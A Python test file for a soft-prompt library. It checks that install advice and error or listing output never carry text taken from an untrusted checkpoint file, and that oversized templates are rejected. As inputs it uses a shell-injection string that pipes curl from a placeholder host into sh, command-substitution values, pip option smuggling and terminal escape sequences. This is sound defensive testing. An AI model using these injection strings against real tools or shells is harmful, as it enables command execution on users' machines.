"""Text from a stranger's file never reaches a shell through our advice, nor a terminal as a control sequence."""

import dataclasses
import json
import re

import pytest
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

import softprompt_zoo as zoo
from softprompt_zoo import errors
from softprompt_zoo.cli.command import command
from softprompt_zoo.registry import discovery
from softprompt_zoo.testing import tiny_model

EVIL = "evil; curl http://x | sh #"
ESCAPE = "\x1b[2J\x1b]0;title\x07\r\x9b2J\u202e"


def folder_of(folder, **says):
    """Save a prompt of a method that is not installed, and return its folder."""
    zoo.get_method("prompt_tuning")(tiny_model("llama"), num_virtual_tokens=2).save_pretrained(folder)
    (folder / "adapter_config.json").unlink()
    path = folder / "model.safetensors"
    with safe_open(path, "pt") as file:
        index = json.loads(file.metadata()["softprompt_zoo"])
    index["prompts"]["default"] |= {"method": "unheard_of", "distribution": "its-package", "version": "1.0", **says}
    save_file(load_file(path), path, {"softprompt_zoo": json.dumps(index)})
    return folder


def check_advice(folder):
    with pytest.raises(zoo.UnknownMethodError) as caught:
        zoo.load(tiny_model("llama"), folder)
    text = str(caught.value)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", text), repr(text)
    advice = re.search(r"run: (.*?) \(", text)
    if advice is not None:
        assert re.fullmatch(r"pip install [A-Za-z0-9][A-Za-z0-9._-]*==[0-9][A-Za-z0-9.!+_-]*", advice[1]), text
    return None if advice is None else advice[1]


@pytest.mark.parametrize(
    "says",
    [
        {"distribution": EVIL},
        {"version": f"1.0; {EVIL}"},
        {"distribution": "-r requirements.txt"},
        {"distribution": "--index-url=http://x"},
        {"distribution": "git+https://x/y"},
        {"distribution": "a/b"},
        {"distribution": "a b"},
        {"distribution": "a\nb"},
        {"distribution": ""},
        {"distribution": "a" * 5000},
        {"version": "1" * 5000},
        {"version": "$(id)"},
        {"version": "1.0`id`"},
        {"version": "1.0 --pre"},
        {"distribution": ESCAPE},
        {"version": ESCAPE},
        {"method": f"x{ESCAPE}"},
    ],
    ids=repr,
)
def test_advice_is_never_made_of_a_files_text(says, tmp_path):
    found = check_advice(folder_of(tmp_path / "folder", **says))
    assert found is None or "method" in says


@pytest.mark.parametrize("version", ["1.0", "2!1.0rc1", "0.1.dev3+g1a2b", "2026.11.28"])
def test_a_package_that_can_be_installed_is_named(version, tmp_path):
    assert check_advice(folder_of(tmp_path / "folder", version=version)) == f"pip install its-package=={version}"


def test_the_check_notices_advice_that_is_made_of_anything(tmp_path, monkeypatch):
    monkeypatch.setattr(discovery, "install_advice", lambda name, version: f"run: pip install {name}=={version}")
    with pytest.raises(AssertionError):
        check_advice(folder_of(tmp_path / "folder", distribution=EVIL))


def check_terminal(text):
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text), repr(text)


@pytest.mark.parametrize("kind", [zoo.CheckpointError, zoo.UnsupportedError, zoo.BankError, zoo.UnknownMethodError])
def test_no_error_carries_control_characters(kind):
    error = kind(f"says {ESCAPE} ä 日本 — \U0001f600")
    check_terminal(str(error))
    assert "ä 日本 — \U0001f600" in str(error)
    assert r"\x1b[2J" in str(error)


def test_the_check_notices_errors_that_are_not_made_printable(monkeypatch):
    monkeypatch.setattr(errors, "printable", lambda text: text)
    with pytest.raises(AssertionError):
        check_terminal(str(zoo.CheckpointError(ESCAPE)))


@pytest.mark.parametrize("kind", [ValueError, OSError, TypeError])
def test_the_command_line_prints_no_control_characters_of_other_errors(kind):
    import typer

    app = typer.Typer()

    @app.command()
    @command
    def fail() -> None:
        raise kind(f"says {ESCAPE}")

    result = CliRunner().invoke(app, [])
    assert result.exit_code == 2
    check_terminal(result.stderr.replace("\x1b[31m", "").replace("\x1b[0m", ""))


def test_listings_print_no_control_characters(monkeypatch):
    from softprompt_zoo.cli import app
    from softprompt_zoo.registry.registry import registry

    own = next(iter(registry.candidates().values()))
    strange = dataclasses.replace(own, name=f"x{ESCAPE}", summary=ESCAPE, aliases=(ESCAPE,))
    monkeypatch.setattr(registry, "candidates", lambda: {"x": strange})
    check_terminal(CliRunner().invoke(app, ["methods"]).stdout)


# Templates that would be larger than any memory


@pytest.mark.parametrize(
    ("template", "options"),
    [
        ("{soft:300000000}", {}),
        ("{soft:300000000}", {"max_length": 64}),
        ("{soft:65} {text}", {"max_length": 64}),
        ("{soft[0:1000000]}" * 1000, {}),
        ("{soft[99999999999999]}", {}),
        ("{soft[" + "9" * 5000 + "]}", {}),
        ("{soft:" + "9" * 5000 + "}", {}),
        ([{"role": "user", "content": "{soft:600000}"}] * 2, {}),
    ],
    ids=lambda value: str(value)[:40],
)
def test_a_template_has_no_more_slots_than_a_row(template, options):
    from softprompt_zoo.testing.tokenizer import tiny_tokenizer

    fields = {"text": "a"} if "{text}" in template else {}
    with pytest.raises(ValueError, match=r"slots|names virtual token|names no virtual token"):
        zoo.encode(tiny_tokenizer(), template, **options, **fields)
